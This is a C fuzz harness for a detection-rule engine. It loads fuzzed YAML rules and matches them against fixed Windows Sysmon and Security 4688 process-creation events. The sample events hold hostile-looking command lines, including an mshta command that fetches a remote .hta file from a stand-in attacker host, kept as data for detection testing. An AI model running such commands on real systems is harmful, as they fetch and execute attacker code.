// fuzz_rule: bytes as one rule file -> the YAML loader and compiler (sk_rule_loader_add_buffer,
// finish) -> every loaded rule run against a fixed Sysmon process-creation event and a fixed
// Security 4688 event (sk_matcher_run), plus the load report and explain text.
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include "fuzz_common.h"
#include "rules/ruleset.h"

static void add_sys(sk_event *ev, const char *name, const char *value)
{
    if (sk_event_add(ev, name, strlen(name), value, strlen(value), SK_FIELD_SYSTEM) != SK_OK)
        __builtin_trap();
}

static void add_data(sk_event *ev, const char *name, const char *value)
{
    if (sk_event_add_data(ev, name, strlen(name), value, strlen(value)) != SK_OK)
        __builtin_trap();
}

static void make_sysmon(sk_event *ev)
{
    add_sys(ev, "Provider_Name", "Microsoft-Windows-Sysmon");
    add_sys(ev, "EventID", "1");
    add_sys(ev, "Version", "5");
    add_sys(ev, "TimeCreated", "2024-05-01T10:22:03.1234567Z");
    add_sys(ev, "EventRecordID", "4711");
    add_sys(ev, "Channel", "Microsoft-Windows-Sysmon/Operational");
    add_sys(ev, "Computer", "WS01.example.org");
    add_data(ev, "RuleName", "-");
    add_data(ev, "UtcTime", "2024-05-01 10:22:03.123");
    add_data(ev, "ProcessGuid", "{5770385f-c22a-5e1c-0000-00107f1e0c00}");
    add_data(ev, "ProcessId", "4242");
    add_data(ev, "Image", "C:\\Windows\\System32\\mshta.exe");
    add_data(ev,
             "CommandLine",
             "mshta.exe http://evil.example/a.hta -Embedding /c \xe2\x80\x93x "
             "aGVsbG8gd29ybGQ= 10.1.2.3");
    add_data(ev, "CurrentDirectory", "C:\\Users\\bob\\AppData\\Local\\Temp\\");
    add_data(ev, "User", "EXAMPLE\\bob");
    add_data(ev, "IntegrityLevel", "Medium");
    add_data(ev, "Hashes", "SHA256=0123456789ABCDEF,IMPHASH=00AA");
    add_data(ev, "ParentImage", "C:\\Windows\\explorer.exe");
    add_data(ev, "ParentCommandLine", "C:\\Windows\\Explorer.EXE");
    add_data(ev, "DestinationIp", "fe80::1%eth0");
    add_data(ev, "Data", "first unnamed");
    add_data(ev, "Data", "second unnamed \xc3\x84\xce\xa3");
    sk_event_finish(ev);
}

static void make_4688(sk_event *ev)
{
    add_sys(ev, "Provider_Name", "Microsoft-Windows-Security-Auditing");
    add_sys(ev, "EventID", "4688");
    add_sys(ev, "Version", "2");
    add_sys(ev, "Keywords", "0x8020000000000000");
    add_sys(ev, "TimeCreated", "2024-05-01T10:22:04.0000000Z");
    add_sys(ev, "EventRecordID", "99");
    add_sys(ev, "Channel", "Security");
    add_sys(ev, "Computer", "WS01.example.org");
    add_data(ev, "SubjectUserSid", "S-1-5-18");
    add_data(ev, "SubjectUserName", "WS01$");
    add_data(ev, "NewProcessId", "0x1410");
    add_data(ev, "NewProcessName", "C:\\Windows\\System32\\rundll32.exe");
    add_data(ev, "TokenElevationType", "%%1936");
    add_data(ev, "CommandLine", "rundll32.exe shell32.dll,#44 -s");
    add_data(ev, "ParentProcessName", "C:\\Windows\\System32\\cmd.exe");
    add_data(ev, "MandatoryLabel", "S-1-16-16384");
    sk_event_finish(ev);
}

// Touches every string a hit hands over (they must be valid during the callback).
static void
on_hit(void *ctx, const sk_rule *rule, const sk_event *ev, const sk_match_item *items, size_t n)
{
    size_t *sum = ctx;
    *sum += strlen(sk_rule_title(rule)) + sk_event_nfields(ev);
    for (size_t i = 0; i < n; i++) {
        *sum += strlen(items[i].selection) + strlen(items[i].field);
        if (items[i].value)
            *sum += strlen(items[i].value);
    }
}

int LLVMFuzzerTestOneInput(const unsigned char *data, size_t size)
{
    sk_diags diags;
    sk_diags_init(&diags, NULL, NULL);
    sk_rule_loader *l = NULL;
    if (sk_rule_loader_new(&l, NULL, &diags) != SK_OK)
        __builtin_trap();
    sk_status st = sk_rule_loader_add_buffer(l, "fuzz.yml", (const char *)data, size, &diags);
    (void)st; // bad rules are skipped and reported; SK_OK or not, finish builds the ruleset
    sk_ruleset *rs = sk_rule_loader_finish(l);

    for (size_t i = 0; i < sk_ruleset_report_count(rs); i++)
        (void)sk_ruleset_report_at(rs, i)->line;
    for (size_t i = 0; i < sk_ruleset_reason_count(rs); i++) {
        const char *code;
        size_t n;
        sk_ruleset_reason_at(rs, i, &code, &n);
    }
    sk_buf explain;
    sk_buf_init(&explain, 1u << 20);
    for (size_t i = 0; i < sk_ruleset_count(rs); i++) {
        sk_buf_reset(&explain);
        sk_rule_explain(sk_ruleset_rule(rs, i), &explain);
    }
    sk_buf_fini(&explain);

    sk_event sysmon, sec;
    sk_event_init(&sysmon);
    sk_event_init(&sec);
    make_sysmon(&sysmon);
    make_4688(&sec);
    sk_matcher *m = sk_matcher_new(rs);
    size_t sum = 0;
    (void)sk_matcher_run(m, &sysmon, on_hit, &sum);
    (void)sk_matcher_run(m, &sec, on_hit, &sum);
    // Every rule, past the index too (its logsource still applies).
    for (size_t i = 0; i < sk_ruleset_count(rs); i++) {
        (void)sk_matcher_run_rule(m, sk_ruleset_rule(rs, i), &sysmon, on_hit, &sum);
        (void)sk_matcher_run_rule(m, sk_ruleset_rule(rs, i), &sec, on_hit, &sum);
    }
    sk_matcher_free(m);
    sk_event_fini(&sec);
    sk_event_fini(&sysmon);
    sk_ruleset_free(rs);
    return 0;
}
